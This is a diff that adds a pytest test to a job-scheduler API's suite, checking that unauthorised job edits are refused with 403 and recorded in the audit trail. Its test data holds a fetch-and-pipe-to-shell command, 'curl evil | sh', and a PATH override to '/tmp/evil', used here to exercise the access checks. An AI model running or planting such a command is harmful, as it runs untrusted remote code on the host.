@@ -319,6 +319,34 @@ def test_an_operator_may_activate_through_patch_but_not_change_a_timer(api: Api)
     assert api.jc.dump() == before
 
 
+@pytest.mark.parametrize(
+    ("role", "fields"),
+    [
+        ("operator", {"command": "curl evil | sh"}),
+        ("operator", {"env": {"PATH": "/tmp/evil"}}),
+        ("operator", {"cwd": "/tmp"}),
+        ("viewer", {"active": False}),
+    ],
+)
+def test_a_refused_patch_is_audited_naming_user_jobs_and_fields(
+    api: Api, role: str, fields: dict[str, Any]
+) -> None:
+    created = api.jc.create(box("Top", active=True), task("t1", "true", "Top", active=True))
+    before = api.jc.dump()
+    # One change by name, one by id (as the Qt client sends): both named in the trail.
+    changes = [{"job": "Top", "fields": {"active": True}}, {"job": created["t1"], "fields": fields}]
+    r = api.client.patch(f"{V1}/jobs", json={"changes": changes}, headers=api.headers(role))
+    assert r.status_code == 403, r.text
+    entries = list_entries(api.jc.store, user=f"{role}-user")
+    assert [(e.operation, e.result, e.jobs) for e in entries] == [
+        ("PATCH /api/v1/jobs", "refused", ["Top", "t1"])
+    ]
+    assert r.json()["message"] == entries[0].detail
+    for field in fields:
+        assert field in entries[0].detail
+    assert api.jc.dump() == before
+
+
 def test_activating_200_jobs_is_one_batch_and_one_reaction(api: Api) -> None:
     api.jc.create(box("Top"), *(task(f"t{i}", "true", "Top") for i in range(200)))
     reactions = api.jc.dispatcher.stats.reactions
